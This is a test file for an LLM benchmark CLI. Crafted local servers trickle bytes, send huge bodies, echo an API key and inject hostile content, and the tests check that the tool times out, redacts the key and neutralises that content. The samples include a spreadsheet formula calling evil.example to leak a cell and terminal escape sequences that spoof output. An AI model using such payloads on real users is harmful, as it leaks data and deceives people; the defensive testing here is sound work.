// Servers are other people's software: crafted servers on 127.0.0.1 that trickle a byte a second,
// send 100 MB, echo the API key into completions, or put escape sequences and spreadsheet formulas in
// their answers. Each ends that episode as an environment or model error within the deadline and the
// cap (never an internal error, never reaching the model), and nothing they send reaches a terminal
// live, a CSV cell as a formula, or any file with the key in it.
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startOpenAIServer, type OpenAIServer } from '../servers/openai-server.js';
import { startAlfworldServer } from '../servers/alfworld-server.js';
import { spawn } from 'node:child_process';
import { cleanEnv, filesUnder, readLines, runCli, runDirs, scriptedRespond, startCli } from '../run/cli-helpers.js';

let tmp: string;
const servers: http.Server[] = [];
const sockets = new Set<import('node:net').Socket>();

/** A crafted HTTP server on 127.0.0.1:0; returns its base URL and a count of the requests it got. */
async function crafted(handler: http.RequestListener): Promise<{ url: string; hits: () => number }> {
  let n = 0;
  const srv = http.createServer((req, res) => {
    n++;
    handler(req, res);
  });
  srv.on('connection', (s) => {
    sockets.add(s);
    s.on('close', () => sockets.delete(s));
  });
  await new Promise<void>((r) => srv.listen(0, '127.0.0.1', r));
  servers.push(srv);
  return { url: `http://127.0.0.1:${(srv.address() as AddressInfo).port}`, hits: () => n };
}

/** Answers 200 and then one byte a second, forever. */
const trickle: http.RequestListener = (_req, res) => {
  res.writeHead(200, { 'Content-Type': 'text/html' });
  const t = setInterval(() => {
    if (res.destroyed) return clearInterval(t);
    res.write('x');
  }, 1000);
  res.on('close', () => clearInterval(t));
};

/** Answers 200 with a 100 MB body (no Content-Length: the size shows only while reading). */
const hundredMB: http.RequestListener = (_req, res) => {
  res.writeHead(200, { 'Content-Type': 'text/html' });
  const chunk = Buffer.alloc(1024 * 1024, 'a');
  let sent = 0;
  const pump = () => {
    while (sent < 100 && !res.destroyed) {
      sent++;
      if (!res.write(chunk)) return void res.once('drain', pump);
    }
    res.end();
  };
  pump();
};

let llm: OpenAIServer;
beforeAll(async () => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'cli-hostile-'));
  llm = await startOpenAIServer({ respond: scriptedRespond });
});
afterAll(async () => {
  for (const s of sockets) s.destroy();
  await Promise.all(servers.map((s) => new Promise((r) => s.close(r))));
  await llm.close();
  fs.rmSync(tmp, { recursive: true, force: true });
});

/** ReAct on HotpotQA item 0 with the "Wikipedia site" at `envUrl`; returns the result and the episode record. */
async function reactAgainst(envUrl: string, name: string, extra: string[] = []) {
  const results = path.join(tmp, name);
  const r = await runCli(
    [
      'run',
      '--task',
      'hotpotqa',
      '--method',
      'react',
      '--indices',
      '0',
      '--env-url',
      envUrl,
      '--base-url',
      llm.baseURL,
      '--model',
      'test-model',
      '--cache',
      'off',
      '--results-dir',
      results,
      '--max-consecutive-failures',
      '0',
      ...extra,
    ],
    { cwd: tmp, env: cleanEnv({}, path.join(tmp, 'cache')) },
  );
  const [dir] = runDirs(results);
  const recs = dir ? readLines(path.join(results, dir, 'episodes.jsonl')) : [];
  return { r, rec: recs[0], dir: dir ? path.join(results, dir) : undefined };
}

describe('environment answers have a total deadline and a size cap', () => {
  it('a server sending one byte a second ends the episode at --env-deadline as an environment error', async () => {
    const env = await crafted(trickle);
    const before = llm.completionRequests().length;
    const { r, rec } = await reactAgainst(env.url, 'trickle', ['--env-deadline', '2', '--wiki-timeout', '30']);
    expect(r.stderr).not.toMatch(/internal error/);
    expect(r.code).toBe(3); // finished with error episodes
    expect(rec.error).toMatchObject({ source: 'env' });
    expect(rec.error.message).toMatch(/did not complete within 2 s \(--env-deadline\)/);
    expect(env.hits()).toBe(1); // not retried: the same server would trickle again
    expect(llm.completionRequests().length - before).toBe(1); // the first Thought only; nothing of the page reached the model
  });

  it('a 100 MB observation is refused at the default cap as an environment error, never sent to the model', async () => {
    const env = await crafted(hundredMB);
    const { r, rec, dir } = await reactAgainst(env.url, 'huge');
    expect(r.stderr).not.toMatch(/internal error/);
    expect(r.code).toBe(3);
    expect(rec.error).toMatchObject({ source: 'env' });
    expect(rec.error.message).toMatch(/is larger than 33554432 bytes \(--env-max-bytes\)/);
    for (const req of llm.completionRequests()) expect(req.body.prompt?.length ?? 0).toBeLessThan(100_000);
    for (const f of filesUnder(dir!)) expect(fs.statSync(f).size).toBeLessThan(1024 * 1024);
  });

  it('--env-max-bytes and --env-deadline are checked at start', async () => {
    const results = path.join(tmp, 'bad-limits');
    for (const [flag, v, msg] of [
      ['--env-max-bytes', '10', /--env-max-bytes: expected a whole number from 1024 to 1073741824, got 10/],
      ['--env-deadline', '0', /--env-deadline: expected a number from 0\.001 to 86400, got 0/],
    ] as const) {
      const r = await runCli(
        ['run', '--method', 'react', '--limit', '1', flag, v, '--base-url', llm.baseURL, '--model', 'm', '--results-dir', results],
        { cwd: tmp, env: cleanEnv({}, path.join(tmp, 'cache')) },
      );
      expect(r.code).toBe(2);
      expect(r.stderr.trimEnd().split('\n')).toHaveLength(1);
      expect(r.stderr).toMatch(msg);
    }
    expect(fs.existsSync(results)).toBe(false);
  });

  it('SIGTERM ends a run waiting on a trickling server (a wait is interruptible)', async () => {
    const env = await crafted(trickle);
    const results = path.join(tmp, 'sigterm');
    const { child, done } = startCli(
      [
        'run',
        '--task',
        'hotpotqa',
        '--method',
        'react',
        '--indices',
        '0',
        '--env-url',
        env.url,
        '--base-url',
        llm.baseURL,
        '--model',
        'test-model',
        '--cache',
        'off',
        '--results-dir',
        results,
      ],
      { cwd: tmp, env: cleanEnv({}, path.join(tmp, 'cache')) },
    );
    for (let i = 0; i < 400 && env.hits() === 0; i++) await new Promise((r) => setTimeout(r, 50));
    expect(env.hits()).toBe(1);
    child.kill('SIGTERM');
    const killer = setTimeout(() => child.kill('SIGKILL'), 10_000); // the deadline of this test: it must not need this
    const r = await done;
    clearTimeout(killer);
    expect(r.signal).toBe(null);
    expect(r.code).toBe(143);
  });
});

describe('model answers have a total deadline and a size cap', () => {
  it('a model server trickling its body ends the episode at --request-timeout as a model error', async () => {
    const srv = await crafted((req, res) => {
      if (req.url?.endsWith('/models')) return void res.end(JSON.stringify({ object: 'list', data: [{ id: 'm' }] }));
      res.writeHead(200, { 'Content-Type': 'application/json' });
      res.write('{"choices": [');
      trickle(req, {
        ...res,
        writeHead: () => res,
        write: (c: string) => res.write(c),
        on: res.on.bind(res),
        get destroyed() {
          return res.destroyed;
        },
      } as never);
    });
    const results = path.join(tmp, 'llm-trickle');
    const r = await runCli(
      [
        'run',
        '--method',
        'cot',
        '--indices',
        '0',
        '--base-url',
        `${srv.url}/v1`,
        '--model',
        'm',
        '--cache',
        'off',
        '--request-timeout',
        '2',
        '--max-retries',
        '0',
        '--results-dir',
        results,
      ],
      { cwd: tmp, env: cleanEnv({}, path.join(tmp, 'cache')) },
    );
    expect(r.stderr).not.toMatch(/internal error/);
    expect(r.code).toBe(3);
    const [rec] = readLines(path.join(results, runDirs(results)[0], 'episodes.jsonl'));
    expect(rec.error).toMatchObject({ source: 'llm' });
    expect(rec.error.message).toMatch(/request timed out/);
  });

  it('a 100 MB model answer passes --llm-max-bytes: a model error, not retried', async () => {
    const srv = await crafted((req, res) => (req.url?.endsWith('/models') ? res.end('{"data":[]}') : hundredMB(req, res)));
    const results = path.join(tmp, 'llm-huge');
    const r = await runCli(
      [
        'run',
        '--method',
        'cot',
        '--indices',
        '0',
        '--base-url',
        `${srv.url}/v1`,
        '--model',
        'm',
        '--cache',
        'off',
        '--llm-max-bytes',
        '1048576',
        '--results-dir',
        results,
      ],
      { cwd: tmp, env: cleanEnv({}, path.join(tmp, 'cache')) },
    );
    expect(r.stderr).not.toMatch(/internal error/);
    expect(r.code).toBe(3);
    const [rec] = readLines(path.join(results, runDirs(results)[0], 'episodes.jsonl'));
    expect(rec.error).toMatchObject({ source: 'llm' });
    expect(rec.error.message).toMatch(/larger than 1048576 bytes \(--llm-max-bytes\)/);
    expect(srv.hits()).toBe(1);
  });
});

describe('what a model or server says is data', () => {
  const KEY = 'sk-test-ECHOED-0123456789abcdef';
  /** The key as a percent-encoder that escapes "-" writes it, in lowercase hex. */
  const ENCODED = KEY.replaceAll('-', '%2d');
  const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';
  /** A model that answers with the key, terminal escapes and a spreadsheet formula. */
  const hostile = (req: { prompt: string }, sample: number) =>
    req.prompt.endsWith('Thought:') || req.prompt.endsWith('Answer:')
      ? ` The key is ${KEY}, or ${ENCODED}. \x1b]0;pwned\x07\x1b[2J\rALL GOOD So the answer is ${FORMULA}.\nAnswer: ${FORMULA}\nQuestion: next`
      : scriptedRespond(req as never, sample);
  let echo: OpenAIServer;
  const results = () => path.join(tmp, 'echo-results');
  const cache = () => path.join(tmp, 'echo-cache');
  beforeAll(async () => {
    echo = await startOpenAIServer({ respond: hostile, apiKey: KEY });
  });
  afterAll(async () => echo.close());

  it('an echoed API key reaches no file under the results or cache folder, and --retry-errors does not replay it', async () => {
    const env = cleanEnv({ OPENAI_API_KEY: KEY }, cache());
    const r = await runCli(
      ['run', '--method', 'cot', '--indices', '0,1', '--base-url', echo.baseURL, '--model', 'test-model', '--results-dir', results()],
      { cwd: tmp, env },
    );
    expect(r.stderr).not.toMatch(/internal error|refusing to write/);
    expect(r.code).toBe(0);
    const files = [...filesUnder(results()), ...filesUnder(cache())];
    expect(files.some((f) => f.endsWith('completions.sqlite'))).toBe(true);
    for (const f of files) for (const k of [KEY, ENCODED]) expect(fs.readFileSync(f).includes(k), `${f}: ${k}`).toBe(false);
    const [rec] = readLines(path.join(results(), runDirs(results())[0], 'episodes.jsonl'));
    expect(rec.traj).toContain('The key is [redacted], or [redacted].');
    // again from the cache, retrying errors: still no key anywhere
    const id = runDirs(results())[0];
    const again = await runCli(['run', '--resume', id, '--retry-errors', '--base-url', echo.baseURL, '--results-dir', results()], {
      cwd: tmp,
      env,
    });
    expect(again.code).toBe(0);
    for (const f of [...filesUnder(results()), ...filesUnder(cache())]) expect(fs.readFileSync(f).includes(KEY), f).toBe(false);
  });

  it('report --trajectories prints escape sequences visibly; the label sheet writes the formula as text', async () => {
    const dir = path.join(results(), runDirs(results())[0]);
    const t = await runCli(['report', '--trajectories', dir], { cwd: tmp, env: cleanEnv() });
    expect(t.code).toBe(0);
    expect(t.stdout).toContain('\\x1b]0;pwned\\x07\\x1b[2J\\rALL GOOD');
    expect(t.stdout).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
    const sheet = path.join(tmp, 'labels.csv');
    const l = await runCli(['report', results(), '--label-sheet', sheet], { cwd: tmp, env: cleanEnv() });
    expect(l.code).toBe(0);
    const csv = fs.readFileSync(sheet, 'utf8');
    expect(csv).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
    // no cell starts with "=" (a cell starts after a comma or a line start, optionally quoted)
    expect(csv).not.toMatch(/(^|,)"?=/m);
    const out = path.join(tmp, 'report.csv');
    const c = await runCli(['report', results(), '--out', out], { cwd: tmp, env: cleanEnv() });
    expect(c.code).toBe(0);
    expect(fs.readFileSync(out, 'utf8')).not.toMatch(/(^|,)"?[=+@]/m);
  });

  it("a model server's error body with escape sequences reaches the terminal made visible", async () => {
    const bad = await startOpenAIServer({
      respond: scriptedRespond,
      fault: () => ({
        kind: 'status',
        status: 400,
        body: { object: 'error', message: 'bad \x1b]0;pwned\x07\x1b[2J\x1b[1;1HALL GOOD\r\nreally' },
      }),
    });
    try {
      const r = await runCli(
        [
          'run',
          '--method',
          'cot',
          '--indices',
          '0',
          '--base-url',
          bad.baseURL,
          '--model',
          'test-model',
          '--cache',
          'off',
          '--results-dir',
          path.join(tmp, 'err-body'),
        ],
        { cwd: tmp, env: cleanEnv({}, path.join(tmp, 'cache')) },
      );
      expect(r.code).not.toBe(0);
      expect(r.stderr).toContain('\\x1b]0;pwned');
      expect(r.stderr).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
    } finally {
      await bad.close();
    }
  });

  it('an ALFWorld {"error"} with escape sequences is an environment error, printed visibly', async () => {
    const house = await startAlfworldServer();
    const model = await startOpenAIServer({ respond: () => ' look\n' });
    try {
      house.enqueueFault({ route: 'step', kind: 'error-body', message: '\x1b]0;pwned\x07\x1b[2J\x1b[HALL GOOD\rfake' });
      const results = path.join(tmp, 'alf-esc');
      const r = await runCli(
        [
          'run',
          '--task',
          'alfworld',
          '--method',
          'react',
          '--env-url',
          house.url,
          '--indices',
          '0',
          '--base-url',
          model.baseURL,
          '--model',
          'test-model',
          '--cache',
          'off',
          '--results-dir',
          results,
        ],
        { cwd: tmp, env: cleanEnv({}, path.join(tmp, 'cache')) },
      );
      expect(r.code).toBe(3);
      const [rec] = readLines(path.join(results, runDirs(results)[0], 'episodes.jsonl'));
      expect(rec.error).toMatchObject({ source: 'env' });
      expect(r.stderr).toContain('\\x1b]0;pwned\\x07\\x1b[2J');
      expect(r.stderr).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
    } finally {
      await model.close();
      await house.close();
    }
  });
});

describe('waits end on a signal', () => {
  it("SIGTERM ends a run waiting for another process's write lock on the completion cache", async () => {
    const cache = path.join(tmp, 'locked-cache');
    const results = path.join(tmp, 'locked');
    const env = cleanEnv({}, cache);
    // a first run creates the cache file
    const first = await runCli(
      ['run', '--method', 'cot', '--indices', '0', '--base-url', llm.baseURL, '--model', 'test-model', '--results-dir', results],
      { cwd: tmp, env },
    );
    expect(first.code).toBe(0);
    // another process takes the write lock and keeps it
    const holder = spawn(
      process.execPath,
      [
        '-e',
        `
      const Database = require('better-sqlite3');
      const db = new Database(${JSON.stringify(path.join(cache, 'completions.sqlite'))});
      db.exec('BEGIN IMMEDIATE');
      process.stdout.write('locked\\n');
      setInterval(() => {}, 1000);
    `,
      ],
      { cwd: path.resolve('.'), stdio: ['ignore', 'pipe', 'inherit'] },
    );
    try {
      await new Promise<void>((resolve) => holder.stdout!.on('data', (d) => String(d).includes('locked') && resolve()));
      const before = llm.completionRequests().length;
      const { child, done } = startCli(
        ['run', '--method', 'cot', '--indices', '1', '--base-url', llm.baseURL, '--model', 'test-model', '--results-dir', results],
        { cwd: tmp, env },
      );
      for (let i = 0; i < 600 && llm.completionRequests().length === before; i++) await new Promise((r) => setTimeout(r, 50));
      expect(llm.completionRequests().length).toBeGreaterThan(before); // the answer came: it is waiting to store it
      await new Promise((r) => setTimeout(r, 500));
      child.kill('SIGTERM');
      const killer = setTimeout(() => child.kill('SIGKILL'), 10_000); // the deadline: the wait must end well before
      const r = await done;
      clearTimeout(killer);
      expect(r.signal).toBe(null);
      expect(r.code).toBe(143);
    } finally {
      holder.kill('SIGKILL');
    }
  });
});
